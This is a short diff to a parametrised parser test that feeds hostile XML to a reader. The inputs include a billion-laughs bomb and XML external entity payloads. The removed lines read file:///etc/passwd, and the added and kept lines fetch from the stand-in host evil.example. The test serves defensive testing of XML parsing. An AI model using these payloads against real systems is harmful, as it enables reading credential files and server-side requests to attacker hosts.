@@ -31,8 +31,8 @@ def test_the_encodings_of_the_standard_are_read(encoding: str) -> None:
     "octets",
     [
         BILLION_LAUGHS,
-        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
-        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+        b'<!DOCTYPE a SYSTEM "http://evil.example/x"><a/>',
+        b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/x">]><a>&x;</a>',
         b'<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]><a/>',
         b"<!DOCTYPE a><a/>",
     ],
